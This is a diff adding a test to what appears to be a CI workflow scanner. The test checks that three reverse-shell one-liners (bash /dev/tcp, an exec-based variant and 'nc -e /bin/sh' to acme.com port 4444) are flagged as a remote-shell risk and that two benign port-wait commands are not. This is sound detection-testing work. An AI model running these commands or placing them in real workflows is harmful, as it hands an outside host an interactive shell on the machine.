@@ -144,3 +144,13 @@ test.each([
   const findings = await said(before, strange('pull_request_target', run));
   expect(findings.filter((each) => each.startsWith('config/workflow-script-risk'))).toEqual(expected);
 });
+
+test.each([
+  ['bash -i >& /dev/tcp/acme.com/4444 0>&1', ['config/workflow-script-risk remote-shell']],
+  ['0<&196;exec 196<>/dev/tcp/acme.com/4444; sh <&196 >&196 2>&196 | sh', ['config/workflow-script-risk remote-shell']],
+  ['nc -e /bin/sh acme.com 4444', ['config/workflow-script-risk remote-shell']],
+  ['until (exec 3<>/dev/tcp/127.0.0.1/80); do sleep 1; done', []],
+  ['timeout 1 bash -c "</dev/tcp/db/5432"', []],
+])('a script runs %j', async (run, expected) => {
+  expect(await said(workflow(script('a', 'make')), workflow(script('a', run)))).toEqual(expected);
+});
